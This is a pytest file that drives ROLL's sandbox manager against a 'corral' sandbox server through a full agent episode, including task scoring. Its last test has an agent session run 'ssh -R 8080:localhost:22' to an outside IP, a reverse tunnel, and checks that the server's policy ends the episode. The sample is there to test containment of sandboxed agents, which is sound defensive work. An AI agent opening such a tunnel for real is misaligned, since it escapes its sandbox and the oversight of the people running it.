"""ROLL's `SandboxManagerV2`, unmodified (vendored from alibaba/ROLL), driving a real `corral serve`
through the real rl-rock SDK: the episode steps ROLL runs, and a ROME act ending the episode.

Only ROLL's agent installation is skipped (it downloads an agent CLI): the test calls the manager's
own steps in the order `_initialize_sandbox` and `run_tests` do. ROLL's tool-call parser module is
not vendored; a stand-in for it is the one fake here (the manager only constructs it).
"""

from __future__ import annotations

import logging
import sys
import types
from pathlib import Path

import pytest

from tests.clients.conftest import on_path, thirdparty

pytest.importorskip(
    "rock.sdk.sandbox.client", reason="the clients extra (rl-rock) is not installed"
)


def _manager_class() -> type:
    on_path(thirdparty("rollsrc"))
    if "roll.pipeline.agentic.tools.action_parser" not in sys.modules:
        parser = types.ModuleType("roll.pipeline.agentic.tools.action_parser")

        class ActionParser:  # ROLL's parser of model tool calls: not part of the sandbox path
            def parse_action(self, response: str) -> tuple[bool, list]:
                return False, []

        parser.ActionParser = ActionParser  # type: ignore[attr-defined]
        parser.Qwen3CoderActionParser = ActionParser  # type: ignore[attr-defined]
        sys.modules[parser.__name__] = parser
    from roll.pipeline.agentic.env.rock.sandbox_manager_v2 import SandboxManagerV2

    class Manager(SandboxManagerV2):
        def _initialize_sandbox_with_times(self) -> None:
            """The test runs the steps itself (ROLL's version also installs an agent CLI)."""

    return Manager


def _make(url: str, tasks: Path) -> object:
    manager = _manager_class()(
        sandbox_image="python:3.11",
        logger=logging.getLogger("roll-test"),
        sandbox_base_url=url,
        test_files=[str(tasks)],
        task_name="t1",
        default_timeout=60,
    )
    manager.max_retry = 1  # type: ignore[attr-defined]
    manager.sandbox_ip = None  # type: ignore[attr-defined]
    return manager


def _task(tmp_path: Path, verdict: str) -> Path:
    tasks = tmp_path / "tasks"
    (tasks / "t1" / "tests").mkdir(parents=True)
    (tasks / "t1" / "tests" / "test_answer.py").write_text("def test_answer(): pass\n")
    (tasks / "t1" / "run-tests.sh").write_text(
        f'test -f /tests/test_answer.py && grep -q 42 answer.txt && echo "{verdict}"\n'
    )
    return tasks


@pytest.fixture(autouse=True)
def _in_tmp(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """ROLL's run_tests writes test_output.txt to the current directory."""
    monkeypatch.chdir(tmp_path)


def test_roll_episode_nine_steps(url: str, tmp_path: Path) -> None:
    m = _make(url, _task(tmp_path, "test_answer PASSED"))
    steps: list[str] = []
    # 1. start through the SDK (start_async, then get_status until alive)
    ok, ip = m.start_sandbox(max_retry=1, backoff=0)
    assert ok and ip, "start_sandbox failed"
    m.sandbox_ip = ip  # as ROLL's _initialize_sandbox_with_times records it
    steps.append("start")
    # 2. alive
    import asyncio

    assert asyncio.run(m.sandbox.is_alive()).is_alive
    steps.append("is_alive")
    # 3. the agent's session (ROLL sources /root/.bashrc and sets HOME=/root)
    assert m.create_session(m.agent_session_name, max_retry=1, backoff=0)
    m.active_sessions[m.agent_session_name] = {"created_at": 0, "last_used": 0}
    m.is_initialized = True
    steps.append("create_session")
    # 4. upload a script to the sandbox's /tmp, as ROLL's _upload_settings does
    slow = "echo first\nsleep 2\necho second\n"
    ok, msg = m._upload_settings(slow, "/tmp", "slow.sh")
    assert ok, msg
    steps.append("upload /tmp")
    # 5. a command in the session sees it, and the session keeps its environment
    res = m.run_in_session("cat /tmp/slow.sh; echo HOME=$HOME", m.agent_session_name)
    assert res.exit_code == 0 and "sleep 2" in res.output and "HOME=/root" in res.output
    steps.append("run_in_session")
    # 6. the slow script: nohup ... &, ROLL reads the PID from `[1] PID`, polls kill -0
    status, out = m.run_session_with_timeout(
        m.agent_session_name, "bash /tmp/slow.sh", 60, "/tmp/slow.out", interval=0.5
    )
    assert status == "success" and "first" in out and "second" in out, (status, out)
    steps.append("slow script")
    # 7. the agent's work
    res = m.run_in_session("echo 42 > answer.txt && cat answer.txt", m.agent_session_name)
    assert res.exit_code == 0 and res.output.strip() == "42"
    steps.append("agent step")
    # 8. ROLL's run_tests: test session, mkdir /tests, upload + untar, run-tests.sh via nohup
    resolved, failure, output, command = m.run_tests(m.test_files, task_name="t1")
    assert failure == "" and resolved is True, (failure, output)
    assert "PASSED" in output and command == "bash /tests/run-tests.sh"
    steps.append("run_tests")
    # 9. stop
    sid = m.sandbox_id
    assert m.stop_sandbox() is True
    steps.append("stop")
    assert len(steps) == 9
    import httpx

    alive = httpx.get(f"{url}/apis/envs/sandbox/v1/is_alive", params={"sandbox_id": sid}).json()
    assert alive["result"]["is_alive"] is False


def test_roll_scores_a_failing_test_as_unresolved(url: str, tmp_path: Path) -> None:
    m = _make(url, _task(tmp_path, "test_answer FAILED"))
    assert m.start_sandbox(max_retry=1, backoff=0)[0]
    assert m.create_session(m.agent_session_name, max_retry=1, backoff=0)
    m.run_in_session("echo 42 > answer.txt", m.agent_session_name)
    resolved, failure, output, _ = m.run_tests(m.test_files, task_name="t1")
    assert failure == "" and resolved is False and "FAILED" in output
    m.stop_sandbox()


def test_roll_sees_why_a_rome_act_ended_the_episode(url: str, tmp_path: Path) -> None:
    m = _make(url, _task(tmp_path, "PASSED"))
    assert m.start_sandbox(max_retry=1, backoff=0)[0]
    assert m.create_session(m.agent_session_name, max_retry=1, backoff=0)
    res = m.run_in_session(
        "ssh -R 8080:localhost:22 u@203.0.113.7", m.agent_session_name, max_retry=1, backoff=0
    )
    # ROLL turns the SDK's exception into exit -1 with the server's message as the output
    assert res.exit_code == -1
    assert "episode ended by corral's policy" in res.output and "tunnel" in res.output
    after = m.run_in_session("echo still here", m.agent_session_name, max_retry=1, backoff=0)
    assert after.exit_code == -1 and "terminated" in after.output
    import asyncio

    assert asyncio.run(m.sandbox.is_alive()).is_alive is False
    m.stop_sandbox()
